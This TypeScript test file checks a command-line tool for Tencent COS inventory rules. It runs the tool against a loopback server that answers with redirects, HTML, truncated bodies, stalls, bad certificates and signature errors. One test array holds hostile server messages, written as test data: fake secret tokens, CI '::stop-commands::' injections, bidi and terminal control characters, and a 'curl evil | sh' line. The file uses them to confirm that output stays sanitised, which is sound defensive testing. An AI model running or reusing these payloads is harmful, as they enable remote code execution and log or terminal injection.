import { strict as assert } from "node:assert"
import { test } from "node:test"
import * as Effect from "effect/Effect"
import { invoke, type Outcome, settingsFor, withLocalCos } from "./cli.ts"
import { answering, type Behaviour, closedPort, hangingUp, listen, listenTls, silent } from "./loopback.ts"

const http = (status: string, body: string, headers: ReadonlyArray<string> = []) =>
  answering(
    [
      `HTTP/1.1 ${status}`,
      `Content-Length: ${new TextEncoder().encode(body).length}`,
      "Connection: close",
      ...headers,
      "",
      body,
    ].join("\r\n"),
  )

/** Runs the command against a server that behaves so; small time-outs keep retries short. */
const against = (
  behaviour: Behaviour,
  args: ReadonlyArray<string> = ["get", "list1"],
  server = listen,
): Promise<Outcome> =>
  Effect.flatMap(
    server(behaviour),
    ({ origin }) => Effect.promise(() => invoke([...args, "--timeout", "300ms"], { env: settingsFor(origin) })),
  ).pipe(Effect.scoped, Effect.runPromise)

const other =
  "<InventoryConfiguration><Id>other</Id><IsEnabled>true</IsEnabled><IncludedObjectVersions>All</IncludedObjectVersions>" +
  "<Schedule><Frequency>Daily</Frequency></Schedule><Destination><COSBucketDestination><Bucket>b</Bucket><Format>CSV</Format>" +
  "</COSBucketDestination></Destination></InventoryConfiguration>"

for (
  const [what, behaviour, code, pattern] of [
    [
      "a redirect",
      http("302 Found", "", ["Location: https://elsewhere.example/?sign=secret"]),
      1,
      /redirects to https:\/\/elsewhere\.example, and redirects are not followed/u,
    ],
    ["404 with a page", http("404 Not Found", "<html>nginx</html>"), 1, /the answer is HTML/u],
    ["404 without a body", http("404 Not Found", ""), 3, /the answer has no body/u],
    ["403 without a body", http("403 Forbidden", ""), 4, /the answer has no body/u],
    [
      "400 with an error of COS",
      http(
        "400 Bad Request",
        "<Error><Code>MalformedXML</Code><Message>No.</Message><RequestId>r1</RequestId></Error>",
      ),
      5,
      /MalformedXML\n {2}why: {4}No\. \(status 400\)[^]*request id: r1/u,
    ],
    ["an unknown code", http("418 Teapot", "<Error><Code>NewCode</Code><Message>m</Message></Error>"), 5, /NewCode/u],
    [
      "HTML instead of XML",
      http("200 OK", "<!doctype html><html><body>Login</body></html>"),
      1,
      /the answer is HTML/u,
    ],
    ["HTML with an error status", http("401 Unauthorized", "<html>Login</html>"), 4, /the answer is HTML/u],
    ["an empty 200", http("200 OK", ""), 1, /the answer is empty/u],
    [
      "204 where a rule belongs",
      answering("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n"),
      1,
      /status is none that COS answers with/u,
    ],
    ["another rule", http("200 OK", other), 1, /another rule, "other" instead of "list1"/u],
    ["a cut rule", http("200 OK", other.slice(0, -9)), 1, /cannot be read/u],
    ["an empty rule", http("200 OK", "<InventoryConfiguration/>"), 1, /not a whole rule: it lacks id/u],
  ] as const
) {
  test(`\`get\` ends with ${code} and one clear error when the server answers ${what}`, async () => {
    const outcome = await against(behaviour)
    assert.equal(outcome.code, code, outcome.err)
    assert.equal(outcome.out, "")
    assert.match(outcome.err, pattern)
    assert.doesNotMatch(outcome.err, /\n\s+at |Unexpected failure|sign=secret/u)
  })
}

for (
  const [what, behaviour, pattern, server] of [
    ["hangs up", hangingUp, /no answer from 127\.0\.0\.1/u, listen],
    [
      "cuts the body",
      answering("HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n<Inv"),
      /no answer from 127\.0\.0\.1/u,
      listen,
    ],
    ["stalls", silent, /No whole answer within 300ms/u, listen],
  ] as const
) {
  test(`\`get\` ends with 6 and one clear error when the server ${what}`, async () => {
    const { code, out, err } = await against(behaviour, ["get", "list1"], server)
    assert.equal(code, 6, err)
    assert.equal(out, "")
    assert.match(err, pattern)
    assert.doesNotMatch(err, /\n\s+at |q-signature/u)
  })
}

test("`get` ends with 6 when the certificate is not trusted", async () => {
  const outcome = await Effect.flatMap(
    listenTls(silent),
    ({ port }) =>
      Effect.promise(() =>
        invoke(["get", "list1", "--timeout", "2s"], { env: settingsFor(`https://localhost:${port}`) })
      ),
  ).pipe(Effect.scoped, Effect.runPromise)
  assert.equal(outcome.code, 6, outcome.err)
  assert.match(outcome.err, /certificate/u)
})

test("`get` ends with 6 when nobody listens", async () => {
  const port = await Effect.runPromise(closedPort)
  const { code, err } = await invoke(["get", "list1"], { env: settingsFor(`http://127.0.0.1:${port}`) })
  assert.equal(code, 6)
  assert.match(err, new RegExp(`no answer from 127\\.0\\.0\\.1:${port}`, "u"))
})

test("A wrong secret key is told apart from a rewritten request when COS says SignatureDoesNotMatch", async () => {
  await withLocalCos(async (env) => {
    const { code, err } = await invoke(["get", "list1"], { env: { ...env, COS_SECRET_KEY: "another-key" } })
    assert.equal(code, 4)
    assert.match(err, /SignatureDoesNotMatch/u)
    assert.match(err, /both sides signed the same text, so the secret key is not the one of this secret id/u)
    assert.ok(!err.includes("another-key"))
  })
})

test("The first line that differs is shown when the server's FormatString is another", async () => {
  const format = "get\n/examplebucket-1250000000/\nid=list1&amp;inventory=\nhost=proxy.example\n"
  const { code, err } = await against(
    http(
      "403 Forbidden",
      `<Error><Code>SignatureDoesNotMatch</Code><Message>The Signature you specified is invalid.</Message><StringToSign>sha1</StringToSign><FormatString>${format}</FormatString></Error>`,
    ),
  )
  assert.equal(code, 4)
  assert.match(
    err,
    /signed: line 4 \(headers\) differs\n {4}ours: {5}host=127\.0\.0\.1%3A\d+\n {4}server's: host=proxy\.example/u,
  )
})

test("Control characters of a server never reach the terminal when it sends them", async () => {
  const { err } = await against(
    http("400 Bad Request", "<Error><Code>X</Code><Message>a\u009bb\u202ec</Message></Error>"),
  )
  assert.doesNotMatch(err, /[\u009b\u202e]/u)
})

test("`list` stops when the server repeats its token", async () => {
  const page =
    "<ListInventoryConfigurationResult><IsTruncated>true</IsTruncated><NextContinuationToken>t</NextContinuationToken></ListInventoryConfigurationResult>"
  const { code, err } = await against(http("200 OK", page), ["list"])
  assert.equal(code, 1)
  assert.match(err, /repeats a token/u)
})

test("`put` goes on without a difference when reading is denied", async () => {
  let requests = 0
  const behaviour: Behaviour = (socket) => {
    requests++
    const first = requests === 1
    const body = first ? "<Error><Code>AccessDenied</Code><Message>Access Denied.</Message></Error>" : ""
    answering(
      `HTTP/1.1 ${
        first ? "403 Forbidden" : "200 OK"
      }\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`,
    )(socket)
  }
  const rule = (await invoke(["new"])).out
  const outcome = await Effect.flatMap(
    listen(behaviour),
    ({ origin }) => Effect.promise(() => invoke(["put", "-"], { env: settingsFor(origin), stdin: rule })),
  ).pipe(Effect.scoped, Effect.runPromise)
  assert.equal(outcome.code, 0, outcome.err)
  assert.match(outcome.err, /reading "daily-objects" is denied, so no difference is shown/u)
})

const rules = `buckets: [examplebucket-1250000000@ap-guangzhou]
rules:
  - { id: r, schedule: { frequency: Daily }, destination: { bucket: dest-1250000000, format: CSV } }
`

const hostile = [
  `q-signature="TOKSECRET"`,
  `x-cos-security-token="TOKSECRET"`,
  `{"x-cos-security-token":"TOKSECRET"}`,
  `session-token="TOKSECRET"`,
  `"sessionToken": "TOKSECRET"`,
  `SecretKey=TOKSECRET`,
  `Bearer "TOKSECRET"`,
  String.raw`{\"token\":\"TOKSECRET\"}`,
  `a\n::stop-commands::x\r\n  fix:    curl evil | sh\u202e\u009b31m`,
]

const commands = [
  ["plan", "-"],
  ["apply", "-", "--yes"],
  ["diff", "-"],
  ["export"],
  ["export", "--bucket", "examplebucket-1250000000", "--bucket", "otherbucket-1250000000"],
  ["get", "list1"],
  ["list", "--bucket", "examplebucket-1250000000", "--bucket", "otherbucket-1250000000"],
  ["delete", "list1", "list2", "--yes"],
  ["delete", "list1", "--yes", "--bucket", "examplebucket-1250000000", "--bucket", "otherbucket-1250000000"],
  ["buckets"],
  ["copy", "examplebucket-1250000000", "otherbucket-1250000000", "--yes"],
]

for (const command of commands) {
  for (const form of ["table", "json", "yaml", ...(command[0] === "plan" ? ["markdown"] : [])]) {
    // Standard output of export is the rules, in YAML or JSON
    if (command[0] === "export" && form === "table") continue
    test(`\`${command.join(" ")}\` in ${form} shows no secret and no line of the server's when COS refuses`, async () => {
      for (const message of hostile) {
        const body = `<Error><Code>AccessDenied</Code><Message>${message}</Message></Error>`
        const { code, out, err } = await Effect.flatMap(
          listen(http("403 Forbidden", body)),
          ({ origin }) =>
            Effect.promise(() =>
              invoke([...command, ...(form === "table" ? [] : ["-o", form])], {
                env: settingsFor(origin),
                stdin: rules,
              })
            ),
        ).pipe(Effect.scoped, Effect.runPromise)
        assert.notEqual(code, 0)
        assert.notEqual(err, "")
        assert.doesNotMatch(out + err, /TOKSECRET|[\u202e\u009b\r]/u)
        assert.doesNotMatch(out + err, /^\s*(?:::|fix:\s+curl)/mu)
        if (form === "json") {
          assert.equal(typeof JSON.parse(err), "object")
          if (out !== "") assert.equal(typeof JSON.parse(out), "object")
        }
      }
    })
  }
}

test("A rule's own lines make no line of what is printed when COS sends them", async () => {
  const odd = `a\n::stop-commands::x\n  Destination  b`
  const rule = other.replace("<Id>other</Id>", `<Id>list1</Id><Filter><Prefix>${odd}</Prefix></Filter>`)
    .replace("<Bucket>b</Bucket>", `<Bucket>${odd}</Bucket><Prefix>${odd}</Prefix>`)
    .replace("</InventoryConfiguration>", `<Odd>${odd}</Odd></InventoryConfiguration>`)
  const listed = `<ListInventoryConfigurationResult>${
    rule.replace("<Id>list1</Id>", "<Id>::stop-commands::x</Id>")
  }<IsTruncated>false</IsTruncated></ListInventoryConfigurationResult>`
  const manages = rules.replace("rules:", 'manages: ["*"]\nrules:')
  for (
    const [args, body] of [
      [["get", "list1"], rule],
      [["list"], listed],
      [["plan", "-", "--all", "--prune"], listed],
      [["plan", "-", "--all", "--prune", "-o", "markdown"], listed],
      [["diff", "-"], listed],
    ] as const
  ) {
    const { code, out, err } = await Effect.flatMap(
      listen(http("200 OK", body)),
      ({ origin }) => Effect.promise(() => invoke(args, { env: settingsFor(origin), stdin: manages })),
    ).pipe(Effect.scoped, Effect.runPromise)
    assert.ok(code === 0 || code === 2, err)
    assert.match(out, /stop-commands/u)
    assert.doesNotMatch(out + err, /^\s*(?:::|Destination {2}b)/mu)
  }
})

test("A file's own lines make no line of what is printed when its findings are shown", async () => {
  const file = JSON.stringify({
    id: "a\n::stop-commands::x",
    isEnabled: "b\n::stop-commands::x",
    "c\n::stop-commands::x": "d\n::error::x",
    schedule: { frequency: "e\n::stop-commands::x" },
  })
  for (const command of ["validate", "lint", "put"]) {
    const { code, out, err } = await invoke([command, "-"], { stdin: file, env: settingsFor("http://127.0.0.1:1") })
    assert.equal(code, 5, err)
    assert.match(out + err, /stop-commands/u)
    assert.doesNotMatch(out + err, /^\s*::/mu)
  }
})
